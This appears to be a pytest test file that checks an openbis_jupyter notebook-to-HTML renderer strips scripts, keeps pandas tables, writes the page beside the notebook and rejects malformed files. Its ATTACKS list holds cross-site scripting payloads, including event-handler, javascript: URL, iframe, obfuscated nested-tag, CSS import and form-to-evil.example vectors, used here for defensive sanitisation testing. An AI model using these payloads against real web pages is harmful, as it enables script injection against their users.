"""The web page of a notebook: complete, and without anybody's scripts."""

from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from openbis_jupyter.client.rendering import html_of, render_html
from openbis_jupyter.errors import OpenbisJupyterError

ATTACKS = [
    "<script>EVIL()</script>",
    "<img src=x onerror=EVIL()>",
    "<svg onload=EVIL()></svg>",
    '<a href="javascript:EVIL()">x</a>',
    '<iframe srcdoc="<script>EVIL()</script>"></iframe>',
    '<style>@import "https://evil.example/EVIL()"</style>',
    "<scr<script></script>ipt>EVIL()</script>",
    '<form action="https://evil.example"><input name="EVIL()"></form>',
]


def page_with(html: str) -> str:
    outputs = [
        new_output("display_data", data={"text/html": html, "text/plain": "x"}),
        new_output("display_data", data={"text/markdown": html}),
        new_output("display_data", data={"application/javascript": "EVIL()"}),
    ]
    return html_of(new_notebook(cells=[new_markdown_cell(html), new_code_cell("1", outputs=outputs)]))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_script_of_a_notebook_reaches_the_page(attack: str) -> None:
    main = page_with(attack).split("<main", 1)[1]
    for trace in ("<script", "onerror", "onload", "javascript:", "<iframe", "<form", "@import"):
        assert trace not in main


def test_a_table_of_pandas_stays_a_table() -> None:
    import pandas as pd

    main = page_with(pd.DataFrame({"x": [1, 2]})._repr_html_()).split("<main", 1)[1]
    assert '<table border="1" class="dataframe">' in main and "scoped" not in main


def test_the_page_stands_beside_the_notebook(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "a b.ipynb"
    nbformat.write(new_notebook(cells=[new_markdown_cell("# Result of plate 3")]), file)
    page = render_html(file)
    assert page == tmp_path / "a b.html"
    assert "Result of plate 3" in page.read_text()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a b.html", "a b.ipynb"]
    assert "as it was saved last" in capsys.readouterr().out


@pytest.mark.parametrize("content", [None, "", "{", "[]", "{}"])
def test_what_is_not_a_notebook_is_named(tmp_path: Path, content: str | None) -> None:
    file = tmp_path / "x.ipynb"
    if content is not None:
        file.write_text(content)
    with pytest.raises(OpenbisJupyterError, match="notebook-missing"):
        render_html(file)
